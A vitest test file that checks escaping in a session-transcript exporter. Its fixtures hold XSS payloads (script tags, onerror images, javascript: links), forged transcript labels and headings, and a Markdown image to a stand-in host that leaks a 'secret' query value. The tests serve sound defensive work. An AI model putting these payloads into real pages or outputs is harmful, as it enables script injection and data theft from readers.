import { describe, expect, it } from 'vitest';
import type { CallRecord } from '../core/call-record.js';
import { anthropicCall, toolCall, toolResult, user } from './__test-support__/call-record.js';
import { markdownStructure, unescaped } from './__test-support__/markdown-structure.js';
import { exportSessionJsonl } from './export-session-jsonl.js';
import { exportSessionMarkdown } from './export-session-markdown.js';
import { escapeMarkdown, fencedBlock, inlineCode } from './markdown-text.js';
import { reconstructTurns } from './reconstruct-turns.js';

async function collect(chunks: AsyncIterable<string>): Promise<string> {
  let text = '';
  for await (const chunk of chunks) text += chunk;
  return text;
}

const hostileText = [
  'Sure!',
  '**Tool call** `Bash` `toolu_2`',
  '**Result**, sent with call `call-9`: all good',
  '```',
  '</details><script>alert(1)</script>',
  '## Turn 2 · main thread 1',
  '```',
  'See ![x](https://evil.example/p.png?q=secret) and [click](javascript:alert(1)) or <https://evil.example>',
  'Fake heading',
  '===',
  '   ### indented heading\r# heading after a lone CR',
  '~~~',
  '---',
  '&lt;b&gt; \\[escaped?\\] \\`',
  '[ref]: https://evil.example',
].join('\n');

const hostileInput = { command: "printf '```\\n````\\n' && echo '<b>' # ## Turn 3" };
const hostileOutput = '~~~\n```\n````\n# not a heading\n</pre><img src=x onerror=alert(1)>';

function hostileSession(): CallRecord[] {
  const answer = [
    { type: 'thinking' as const, thinking: '# thinking heading\n```\n<b>bold</b>' },
    { type: 'text' as const, text: hostileText },
    toolCall('toolu_`1`', 'Bash`<b>`', hostileInput),
  ];
  const first = anthropicCall([user({ type: 'text', text: '<img src=x onerror=alert(1)>\n# Turn 99 · main thread 1' })], answer, {
    sessionId: 's-<1>',
    policyEvents: [{ policy: 'p<i>', type: 'policy.p.<b>', summary: '<b>blocked</b>\n# x', at: 1 }],
  });
  const second = anthropicCall(
    [
      user({ type: 'text', text: '<img src=x onerror=alert(1)>\n# Turn 99 · main thread 1' }),
      { role: 'assistant', content: [{ type: 'text', text: hostileText }, { type: 'tool_use', id: 'toolu_`1`', name: 'Bash`<b>`', input: hostileInput }] },
      user(toolResult('toolu_`1`', hostileOutput)),
    ],
    [{ type: 'text', text: 'done' }],
    { error: { code: 'X<1>', message: '<b>error</b>\n## heading' }, outcome: 'failed' },
  );
  return [first, second];
}

describe('the Markdown export of hostile model output', () => {
  it('has no structure but its own: headings, fences, no HTML, no links', async () => {
    const markdown = await collect(exportSessionMarkdown(hostileSession()));
    const structure = markdownStructure(markdown);

    expect(structure.headings).toEqual([
      '# Session `s-<1>`',
      '## Turn 1 · main thread 1',
      '### User',
      '### Assistant',
      '### Interventions',
      '## Turn 2 · main thread 1',
      '### Assistant',
    ]);
    expect(structure.setextUnderlines).toEqual([]);
    expect(structure.unclosedFence).toBe(false);
    // Our blockquotes (thinking) start lines with '> '; any other angle bracket would be live HTML or an autolink.
    expect(structure.prose.replace(/^> /gm, '')).not.toMatch(/[<>]/);
    expect(unescaped(structure.prose, '[]`~')).toEqual([]);
    // Our labels cannot be imitated either: one real tool call, one real result.
    expect(structure.prose.match(/\*\*Tool call\*\*/g)).toHaveLength(1);
    expect(structure.prose.match(/\*\*Result\*\*/g)).toHaveLength(1);
  });

  it('keeps tool inputs and results whole, inside fences', async () => {
    const structure = markdownStructure(await collect(exportSessionMarkdown(hostileSession())));
    expect(structure.fences).toContain(JSON.stringify(hostileInput, null, 2));
    expect(structure.fences).toContain(hostileOutput);
  });

  it('escapes text so that it still reads as itself', () => {
    expect(escapeMarkdown('# Title\n<b>&</b> [a](b) `x` ~~y~~ **z**\nline\n===')).toBe(
      '\\# Title\n&lt;b&gt;&amp;&lt;/b&gt; \\[a\\](b) \\`x\\` \\~\\~y\\~\\~ \\*\\*z\\*\\*\nline\n\\===',
    );
  });

  it('exports JSONL as one parseable line per turn', async () => {
    const session = hostileSession();
    const lines = (await collect(exportSessionJsonl(session))).split('\n');
    expect(lines.at(-1)).toBe('');
    const turns = lines.slice(0, -1).map((line) => JSON.parse(line) as unknown);
    expect(turns).toEqual(JSON.parse(JSON.stringify(reconstructTurns(session))));
  });

  it('says so when the session has no calls', async () => {
    expect(await collect(exportSessionMarkdown([]))).toContain('_No calls recorded._');
    expect(await collect(exportSessionJsonl([]))).toBe('');
  });
});

/** A deterministic stream of random numbers in [0, 1) (mulberry32), so failures reproduce. */
function random(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const alphabet = ['`', '`', '~', '#', '=', '-', '*', '_', '<', '>', '&', '[', ']', '(', ')', '!', '\\', ' ', ' ', '\n', '\r', 'a', 'b', '1', '.', '|'];

function randomText(next: () => number): string {
  const length = Math.floor(next() * 40);
  return Array.from({ length }, () => alphabet[Math.floor(next() * alphabet.length)] ?? '').join('');
}

describe('Markdown escaping holds for any text', () => {
  const next = random(20261125);
  const samples = Array.from({ length: 2000 }, () => randomText(next));

  it('escaped text has no HTML, no headings, no fences, no link or code syntax', () => {
    for (const sample of samples) {
      const escaped = escapeMarkdown(sample);
      const structure = markdownStructure(`paragraph\n\n${escaped}\n`);
      expect(structure.headings, JSON.stringify(sample)).toEqual([]);
      expect(structure.setextUnderlines, JSON.stringify(sample)).toEqual([]);
      expect(structure.fences, JSON.stringify(sample)).toEqual([]);
      expect(escaped).not.toMatch(/[<>\r]|&(?!amp;|lt;|gt;)/);
      expect(unescaped(escaped, '[]`~*_'), JSON.stringify(sample)).toEqual([]);
    }
  });

  it('a fence holds any content and nothing inside closes it', () => {
    for (const sample of samples) {
      const structure = markdownStructure(`${fencedBlock(sample, 'text')}after\n`);
      expect(structure.fences, JSON.stringify(sample)).toEqual([sample.replace(/\r\n?/g, '\n').replace(/\n$/, '')]);
      expect(structure.prose.trim()).toBe('after');
    }
  });

  it('an inline code span holds any text on one line', () => {
    for (const sample of samples) {
      const span = inlineCode(sample);
      expect(span).not.toMatch(/[\r\n]/);
      expect(markdownStructure(`x ${span} y`).prose).toBe('x ␣ y');
    }
  });
});
